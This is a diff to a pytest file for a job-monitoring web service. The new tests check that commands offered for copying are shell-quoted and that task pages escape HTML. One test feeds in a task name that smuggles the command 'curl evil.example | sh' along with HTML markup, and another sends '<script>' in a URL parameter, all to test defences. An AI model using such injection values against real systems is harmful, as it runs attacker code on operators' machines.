@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import gzip
 import re
+import shlex
 import time
 from collections.abc import Iterator
 from html import unescape
+from urllib.parse import quote
 
 import httpx
 import pytest
-from http_service import Service, service
+from http_service import Service, jobsight, service
 from scene import fill
 
 from jobsight.transports.http.pages.assets import Assets
@@ -129,7 +131,35 @@ def test_a_task_tells_what_goes_wrong_and_what_is_expected(browser: httpx.Client
     assert "every 20 min" in said
     assert "Killed: out of memory (limit # MB)" in said
     assert "Set by ops" in said
-    assert "jobsight run --task 'billing.export' -- ./your-command" in said
+    assert "jobsight run --task billing.export -- ./your-command" in said
+
+
+def test_a_command_to_copy_is_one_command_whatever_a_task_is_called(running: Service, browser: httpx.Client) -> None:
+    """Names come from workers, and operators paste what pages offer."""
+    name = "x'; curl evil.example | sh; '<b>"
+    running.post({"type": "job_completed", "job_id": "odd-1", "task": name, "duration_ms": 5})
+    page = browser.get("/tasks/" + quote(name, safe="")).text
+    commands = [unescape(one) for one in re.findall(r'data-copy="([^"]*)"', page)]
+
+    assert 3 == len(commands)
+    assert all(name in shlex.split(command) for command in commands)
+    assert "<b>" not in page
+
+
+def test_a_change_of_a_check_is_told_with_what_differs(running: Service, browser: httpx.Client) -> None:
+    """Who, when, and from what to what."""
+    set_check = ["check", "set", "report.stock", "--server", running.url]
+    assert 0 == jobsight(*set_check, "--schedule", "10 */2 * * *").returncode
+    said = text_of(browser.get("/tasks/report.stock").text)
+
+    assert "schedule 10 */3 * * * → 10 */2 * * *" in said
+    assert "report.stock check set by" in text_of(browser.get("/?range=10m").text)
+
+
+def test_what_was_just_done_is_said_where_one_comes_back_to(browser: httpx.Client) -> None:
+    """Only sentences that are known can stand in a URL."""
+    assert "Acknowledged" in text_of(browser.get("/?did=acknowledged&n=1").text)
+    assert 400 == browser.get("/?did=<script>").status_code
 
 
 def test_a_task_that_is_not_there_is_a_page_that_says_so(browser: httpx.Client) -> None:
